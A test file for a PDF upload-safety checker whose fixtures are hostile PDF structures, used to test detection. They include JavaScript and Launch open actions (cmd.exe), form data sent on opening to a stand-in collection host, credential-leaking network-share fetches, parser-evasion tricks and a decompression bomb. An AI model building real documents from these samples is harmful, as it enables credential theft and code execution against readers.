// Which PDFs are active (issue 12, docs/decisions/0064-upload-safety.md): actions that run
// JavaScript or start programs, embedded files, RichMedia and XFA, wherever a viewer would find
// them, including packed in compressed object streams; and never the words on a page. And which
// act by themselves (issue 28, docs/decisions/0114-pdf-actions.md): an /OpenAction or an /AA
// action that leaves the document, however it is reached; a link that needs a click does not.
import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import * as fixture from "../../../tests/support/file-fixtures";
import { inspectPdf, MAX_DECODED_BYTES } from "./pdf-content.server";

const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
const PAGES = "<< /Type /Pages /Kids [] /Count 0 >>";

describe("plain PDFs pass", () => {
  it.each([
    ["the smallest PDF", fixture.pdf()],
    ["a page of text", fixture.pdfSaying("Thandi Nkosi, field officer")],
    // A programmer's CV: the words are in strings, not names.
    ["a page that says 'HTML/JavaScript/JS'", fixture.pdfSaying("Skills: HTML/JavaScript/JS")],
    [
      "document information that says '/Launch' and '/JavaScript'",
      fixture.pdfOf({
        objects: [catalog(""), PAGES, "<< /Title (Product /Launch) /Keywords <2F4A53> >>"],
        trailer: "/Info 3 0 R",
      }),
    ],
    [
      "a comment that says /JavaScript",
      fixture.pdfOf({ objects: [catalog("% /JavaScript"), PAGES] }),
    ],
    [
      "links and go-to actions (spec-conforming, harmless)",
      fixture.pdfOf({
        objects: [
          catalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
          PAGES,
          "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://veld.example) >> >>",
        ],
      }),
    ],
    [
      "a compressed object stream with ordinary objects",
      fixture.pdfOf({
        objects: [catalog("")],
        packed: { objects: [PAGES, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"] },
      }),
    ],
  ])("%s", (_, bytes) => {
    expect(inspectPdf(bytes)).toEqual({ verdict: "plain" });
  });

  it("a stream's bytes are not read as objects when its /Length holds (an image is not an action)", () => {
    const data = "binary /JavaScript /Launch data";
    const bytes = fixture.pdfOf({
      objects: [
        catalog(""),
        PAGES,
        `<< /Type /XObject /Subtype /Image /Length 4 0 R >>\nstream\n${data}\nendstream`,
        String(data.length),
      ],
    });
    expect(inspectPdf(bytes)).toEqual({ verdict: "plain" });
  });
});

describe("active PDFs are found", () => {
  it.each([
    [
      "JavaScript on opening",
      catalog("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
      ["JavaScript", "JS"],
    ],
    ["a document-level script", catalog("/Names << /JavaScript 3 0 R >>"), ["JavaScript"]],
    ["a Launch action", catalog("/OpenAction << /S /Launch /F (cmd.exe) >>"), ["Launch"]],
    ["an embedded file", catalog("/Names << /EmbeddedFiles 3 0 R >>"), ["EmbeddedFiles"]],
    ["an XFA form", catalog("/AcroForm << /Fields [] /XFA 3 0 R >>"), ["XFA"]],
    // ISO 32000-1 §7.3.5: '#61' is 'a'; a name written in hex is the same name.
    [
      "a name written with # escapes",
      catalog("/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
      ["JavaScript", "JS"],
    ],
    [
      "a misspelt name a lenient viewer may accept",
      catalog("/OpenAction << /S /javascript >>"),
      ["JavaScript"],
    ],
  ])("%s", (_, catalogBody, names) => {
    expect(inspectPdf(fixture.pdfOf({ objects: [catalogBody, PAGES] }))).toEqual({
      verdict: "active",
      names,
    });
  });

  it("a RichMedia annotation and an embedded file stream in other objects", () => {
    const bytes = fixture.pdfOf({
      objects: [
        catalog(""),
        PAGES,
        "<< /Type /Annot /Subtype /RichMedia /RichMediaContent 4 0 R >>",
        "<< /Type /EmbeddedFile /Length 3 >>\nstream\nMZ!\nendstream",
      ],
    });
    expect(inspectPdf(bytes)).toEqual({ verdict: "active", names: ["EmbeddedFile", "RichMedia"] });
  });

  it("an action packed inside a FlateDecode object stream", () => {
    const bytes = fixture.pdfOf({
      objects: [catalog("/OpenAction 3 0 R")],
      packed: { objects: [PAGES, "<< /S /JavaScript /JS (app.launchURL\\('x'\\)) >>"] },
    });
    expect(inspectPdf(bytes)).toEqual({ verdict: "active", names: ["JavaScript", "JS"] });
  });

  it("an object stream without /Type /ObjStm (viewers need only /N and /First)", () => {
    const bytes = fixture.pdfOf({
      objects: [catalog("")],
      packed: { objects: ["<< /S /Launch /F (x.exe) >>"], typed: false },
    });
    expect(inspectPdf(bytes)).toMatchObject({ verdict: "active", names: ["Launch"] });
  });

  it("an uncompressed object stream", () => {
    const bytes = fixture.pdfOf({
      objects: [catalog("")],
      packed: { objects: ["<< /S /JavaScript /JS (1) >>"], filter: null },
    });
    expect(inspectPdf(bytes)).toMatchObject({ verdict: "active" });
  });

  it("objects hidden after a /Length that ends early are read as a viewer trusting it reads them", () => {
    const hidden = "endobj 9 0 obj << /S /Launch /F (x.exe) >> endobj ";
    const bytes = fixture.pdfOf({
      objects: [catalog(""), PAGES, `<< /Length 2 >>\nstream\nab ${hidden}\nendstream`],
    });
    expect(inspectPdf(bytes)).toEqual({ verdict: "active", names: ["Launch"] });
  });
});

const PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>";
const ONE_PAGE = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
/** A catalog, one page and `more` objects (numbered from 4) as a PDF. */
const onePage = (catalogEntries: string, page = PAGE, ...more: string[]) =>
  fixture.pdfOf({ objects: [catalog(catalogEntries), ONE_PAGE, page, ...more] });

describe("actions that run by themselves and leave the document are refused (issue 28)", () => {
  it.each([
    [
      "a javascript: link on opening",
      onePage("/OpenAction << /S /URI /URI (javascript:fetch\\('https://x.example'\\)) >>"),
      ["/OpenAction: URI"],
    ],
    [
      "a form sent to another site on opening",
      onePage("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example) >> >>"),
      ["/OpenAction: SubmitForm"],
    ],
    [
      "a document fetched from a network share on opening (Windows sends its credentials)",
      onePage(
        "/OpenAction << /S /GoToR /F (\\\\\\\\files.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
      ),
      ["/OpenAction: GoToR"],
    ],
    [
      "form data imported from a file on opening",
      onePage("/OpenAction << /S /ImportData /F (data.fdf) >>"),
      ["/OpenAction: ImportData"],
    ],
    [
      "a link followed when a page opens (/AA /O)",
      onePage(
        "",
        "<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://tracker.example/p) >> >> >>",
      ),
      ["/AA /O: URI"],
    ],
    [
      "a form sent when the document closes (catalog /AA /WC)",
      onePage("/AA << /WC << /S /SubmitForm /F (https://collect.example) >> >>"),
      ["/AA /WC: SubmitForm"],
    ],
    [
      "a form field that sends the form when its value is checked (/AA /V)",
      onePage(
        "/AcroForm << /Fields [4 0 R] >>",
        PAGE,
        "<< /FT /Tx /T (name) /AA << /V << /S /SubmitForm /F (https://collect.example) >> >> >>",
      ),
      ["/AA /V: SubmitForm"],
    ],
    [
      "an annotation whose page-open action fetches a network share (/AA /PO)",
      onePage(
        "",
        "<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /AA << /PO << /S /GoToR /F (\\\\\\\\h\\\\s\\\\x.pdf) >> >> >>",
      ),
      ["/AA /PO: GoToR"],
    ],
    [
      "an open action reached through an indirect reference",
      onePage("/OpenAction 4 0 R", PAGE, "<< /Type /Action /S /URI /URI (https://x.example) >>"),
      ["/OpenAction: URI"],
    ],
    [
      "an /AA dictionary and its action both indirect",
      onePage("", "<< /Type /Page /Parent 2 0 R /AA 4 0 R >>", "<< /C 5 0 R >>", "<< /S /URI >>"),
      ["/AA /C: URI"],
    ],
    [
      "an open action packed in a compressed object stream",
      fixture.pdfOf({
        objects: [catalog("/OpenAction 3 0 R")],
        packed: { objects: [PAGES, "<< /S /GoToR /F (\\\\\\\\h\\\\s\\\\x.pdf) /D [0 /Fit] >>"] },
      }),
      ["/OpenAction: GoToR"],
    ],
    [
      "a catalog packed in an object stream with its open action",
      fixture.pdfOf({
        objects: ["<< /Producer (x) >>", PAGES],
        packed: { objects: [catalog("/OpenAction << /S /URI /URI (https://x.example) >>")] },
        root: 3,
      }),
      ["/OpenAction: URI"],
    ],
    [
      "a /Next chain whose second action leaves",
      onePage("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", PAGE, "<< /S /URI >>"),
      ["/OpenAction: URI"],
    ],
    [
      "a /Next array whose last action leaves",
      onePage(
        "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> << /S /SubmitForm >>] >>",
      ),
      ["/OpenAction: SubmitForm"],
    ],
    [
      "an open action after a boolean entry (true is a value, so the pairs stay in step)",
      onePage("/NeedsRendering true /OpenAction << /S /URI /URI (https://x.example) >>"),
      ["/OpenAction: URI"],
    ],
    [
      "names written with # escapes",
      onePage("/Open#41ction << /#53 /#55#52I /URI (https://x.example) >>"),
      ["/OpenAction: URI"],
    ],
    // Deny by default: what is not known to stay in the document is refused.
    [
      "an action type no version of the standard has (a future one is not let through)",
      onePage("/OpenAction << /S /OpenWebPage /URL (https://x.example) >>"),
      ["/OpenAction: OpenWebPage"],
    ],
    [
      "a misspelt type",
      onePage("/OpenAction << /S /goto /D [3 0 R /Fit] >>"),
      ["/OpenAction: goto"],
    ],
    [
      "an action without a type",
      onePage("/OpenAction << /URI (https://x.example) >>"),
      ["/OpenAction: an action without a type"],
    ],
    [
      "a type that is a string, not a name",
      onePage("/OpenAction << /S (GoTo) /D [3 0 R /Fit] >>"),
      ["/OpenAction: a type that is not a name"],
    ],
    [
      "a repeated /S, one of which leaves (viewers differ on which counts)",
      onePage("/OpenAction << /S /URI /URI (https://x.example) /S /GoTo /D [3 0 R /Fit] >>"),
      ["/OpenAction: URI"],
    ],
    [
      "an object defined twice, one of them a link (each definition counts)",
      Buffer.concat([
        onePage("/OpenAction 4 0 R", PAGE, "<< /S /GoTo /D [3 0 R /Fit] >>"),
        Buffer.from("4 0 obj\n<< /S /URI /URI (https://x.example) >>\nendobj\n"),
      ]),
      ["/OpenAction: URI"],
    ],
    [
      "a viewer's menu item as a named action",
      onePage("/OpenAction << /S /Named /N /Print >>"),
      ["/OpenAction: Named"],
    ],
    [
      "an article thread in another file",
      onePage("/OpenAction << /S /Thread /F (\\\\\\\\h\\\\s\\\\x.pdf) /D 0 >>"),
      ["/OpenAction: Thread"],
    ],
    [
      "a sound played on opening (media players are outside the check)",
      onePage(
        "/OpenAction << /S /Sound /Sound 4 0 R >>",
        PAGE,
        "<< /Length 0 >>\nstream\n\nendstream",
      ),
      ["/OpenAction: Sound"],
    ],
    [
      "an open action that is neither a destination nor an action",
      onePage("/OpenAction (https://x.example)"),
      ["/OpenAction: not an action"],
    ],
  ])("%s", (_, bytes, actions) => {
    expect(inspectPdf(bytes)).toEqual({ verdict: "automatic-actions", actions });
  });

  /**
   * A PDF written by hand: `body` holds its objects, and the cross-reference table points to the
   * last 'n 0 obj' of each number, wherever it stands (as a crafted file's table may).
   */
  const withCrossReferences = (body: string) => {
    const text = `%PDF-1.7\n${body}\n`;
    const offsets = new Map<number, number>();
    for (const match of text.matchAll(/(\d+) 0 obj/g)) offsets.set(Number(match[1]), match.index);
    const size = Math.max(...offsets.keys()) + 1;
    const rows = Array.from({ length: size }, (_, n) =>
      n === 0 || !offsets.has(n)
        ? "0000000000 65535 f \n"
        : `${String(offsets.get(n)).padStart(10, "0")} 00000 n \n`,
    );
    return new TextEncoder().encode(
      `${text}xref\n0 ${size}\n${rows.join("")}trailer\n<< /Size ${size} /Root 1 0 R >>\n` +
        `startxref\n${text.length}\n%%EOF\n`,
    );
  };
  const CATALOG_AND_PAGES = `1 0 obj\n${catalog("/OpenAction 4 0 R")}\nendobj\n2 0 obj\n${PAGES}\nendobj\n`;

  it("an object that only the cross-reference table leads to, inside a comment", () => {
    const bytes = withCrossReferences(
      `${CATALOG_AND_PAGES}3 0 obj\n<< /Producer (x) >>\nendobj\n` +
        "%4 0 obj << /S /URI /URI (https://x.example) >> endobj\n",
    );
    expect(inspectPdf(bytes)).toEqual({
      verdict: "automatic-actions",
      actions: ["/OpenAction: URI"],
    });
  });

  it("an object that only the cross-reference table leads to, inside a string", () => {
    const bytes = withCrossReferences(
      `${CATALOG_AND_PAGES}3 0 obj\n<< /Producer (x 4 0 obj << /S /SubmitForm >> endobj) >>\nendobj\n`,
    );
    expect(inspectPdf(bytes)).toEqual({
      verdict: "automatic-actions",
      actions: ["/OpenAction: SubmitForm"],
    });
  });

  it("an object inside the data of a stream whose /Length is right", () => {
    const hidden = "4 0 obj << /S /GoToR /F (x.pdf) /D [0 /Fit] >> endobj";
    const bytes = withCrossReferences(
      `${CATALOG_AND_PAGES}3 0 obj\n<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream\nendobj\n`,
    );
    expect(inspectPdf(bytes)).toEqual({
      verdict: "automatic-actions",
      actions: ["/OpenAction: GoToR"],
    });
  });

  it.each([
    ["a Launch", "<< /S /Launch /F (cmd.exe) >>", ["Launch"]],
    ["JavaScript", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>", ["JavaScript", "JS"]],
  ])("%s on opening is refused as active content", (_, action, names) => {
    expect(inspectPdf(fixture.pdfOpening(action))).toEqual({ verdict: "active", names });
  });

  it("keystroke JavaScript on a form field (/AA /K) is refused as active content", () => {
    const bytes = onePage(
      "/AcroForm << /Fields [4 0 R] >>",
      PAGE,
      "<< /FT /Tx /T (amount) /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >> >>",
    );
    expect(inspectPdf(bytes)).toEqual({ verdict: "active", names: ["JavaScript", "JS"] });
  });

  it("an action that refers to an object the file does not have cannot be checked", () => {
    expect(inspectPdf(onePage("/OpenAction 9 0 R"))).toEqual({
      verdict: "uncheckable",
      reason: "/OpenAction: object 9, which is not in the file",
    });
  });
});

describe("actions that keep the reader in the document pass", () => {
  it.each([
    ["an opening destination", fixture.pdfOpening("[3 0 R /FitH 842]")],
    [
      "an opening destination through a reference",
      onePage("/OpenAction 4 0 R", PAGE, "[3 0 R /Fit]"),
    ],
    ["an opening GoTo", fixture.pdfOpening("<< /S /GoTo /D [3 0 R /Fit] >>")],
    ["a Named NextPage", fixture.pdfOpening("<< /S /Named /N /NextPage >>")],
    [
      "a chain of in-document actions, one of them twice (a cycle ends)",
      onePage(
        "/OpenAction 4 0 R",
        PAGE,
        "<< /S /Trans /Trans << /S /Dissolve >> /Next [5 0 R 4 0 R] >>",
        "<< /S /SetOCGState /State [/ON] /Next 4 0 R >>",
      ),
    ],
    [
      "a page that hides and resets on opening",
      onePage(
        "",
        "<< /Type /Page /Parent 2 0 R /AA << /O << /S /Hide /T (note) /Next << /S /ResetForm >> >> /C null >> >>",
      ),
    ],
    [
      "a clickable link to a profile (a click, not an automatic action)",
      onePage(
        "",
        "<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>",
        "<< /Type /Annot /Subtype /Link /Rect [56 700 300 720] /A << /S /URI /URI (https://www.linkedin.com/in/thabo) >> >>",
      ),
    ],
    [
      "a catalog, its open action and destination packed in object streams (as pdfTeX writes)",
      fixture.pdfOf({
        objects: ["<< /Producer (pdfTeX) >>"],
        packed: {
          objects: [
            "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            catalog("/OpenAction 5 0 R /PageMode /UseOutlines"),
            PAGE,
            "<< /S /GoTo /D [4 0 R /Fit] >>",
          ],
        },
        root: 3,
      }),
    ],
    [
      "null open and close actions (null is an absent entry)",
      onePage(
        "/AcroForm << /NeedAppearances true /Fields [] >> /OpenAction null /AA << /WC null >>",
      ),
    ],
  ])("%s", (_, bytes) => {
    expect(inspectPdf(bytes)).toEqual({ verdict: "plain" });
  });
});

describe("PDFs that cannot be checked are refused, never assumed plain", () => {
  it.each([
    [
      "an encrypted file with object streams (their bytes are encrypted)",
      {
        objects: [catalog("")],
        packed: { objects: [PAGES] },
        trailer: "/Encrypt << /Filter /Standard >>",
      },
      "encrypted object streams",
    ],
    [
      "an object stream in an encoding honest writers do not use",
      { objects: [catalog("")], packed: { objects: [PAGES], filter: "LZWDecode" } },
      "an object stream encoded with LZWDecode",
    ],
    [
      "an object stream that does not inflate",
      { objects: [catalog("")], packed: { objects: [PAGES], corrupt: true } },
      "an object stream that does not inflate",
    ],
  ] as const)("%s", (_, parts, reason) => {
    expect(inspectPdf(fixture.pdfOf(parts))).toEqual({
      verdict: "uncheckable",
      reason,
    });
  });

  it("references that lead only to each other", () => {
    const bytes = onePage("/OpenAction 4 0 R", PAGE, "5 0 R", "4 0 R");
    expect(inspectPdf(bytes)).toEqual({
      verdict: "uncheckable",
      reason: "/OpenAction: object 4, a chain of references",
    });
  });

  it("a decompression bomb stops at the limit", () => {
    const bomb = deflateSync(Buffer.alloc(MAX_DECODED_BYTES + 1024, 0x20));
    const bytes = fixture.pdfOf({ objects: [catalog("")] });
    const objectStream = Buffer.concat([
      Buffer.from(
        `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`,
      ),
      bomb,
      Buffer.from("\nendstream\nendobj\n"),
    ]);
    expect(inspectPdf(Buffer.concat([bytes, objectStream]))).toEqual({
      verdict: "uncheckable",
      reason: "an object stream that does not inflate",
    });
  });

  it("an encrypted file without object streams is still read: its dictionaries are not encrypted", () => {
    const bytes = fixture.pdfOf({
      objects: [catalog("/OpenAction << /S /JavaScript /JS <9f3a> >>"), PAGES],
      trailer: "/Encrypt << /Filter /Standard >>",
    });
    expect(inspectPdf(bytes)).toMatchObject({ verdict: "active" });
  });
});

describe("hostile syntax never hangs or throws", () => {
  it.each([
    ["megabytes of digits", `%PDF-1.7\n${"1".repeat(2_000_000)}x 0 obj`],
    ["an unclosed string", `%PDF-1.7\n1 0 obj << /A (${"(".repeat(100_000)}`],
    ["deep nesting", `%PDF-1.7\n1 0 obj ${"<<[".repeat(100_000)} /JS`],
    ["a stream that never ends", "%PDF-1.7\n1 0 obj << /N 1 /First 0 /Length 999999 >> stream\nxx"],
    [
      "a /Next chain 30 000 deep",
      `%PDF-1.7\n1 0 obj << /OpenAction ${"<< /S /GoTo /Next ".repeat(30_000)}`,
    ],
    [
      "object headers in a string that never ends",
      `%PDF-1.7\n1 0 obj (${"1 0 obj [(".repeat(100_000)}`,
    ],
    [
      "30 000 page actions that all refer to one object",
      `%PDF-1.7\n${"<< /AA << /O 1 0 R /C 1 0 R >> >>\n".repeat(30_000)}1 0 obj << /S /Trans >> endobj`,
    ],
  ])("%s", (_, text) => {
    const started = Date.now();
    expect(() => inspectPdf(new TextEncoder().encode(text))).not.toThrow();
    expect(Date.now() - started).toBeLessThan(2_000);
  });
});
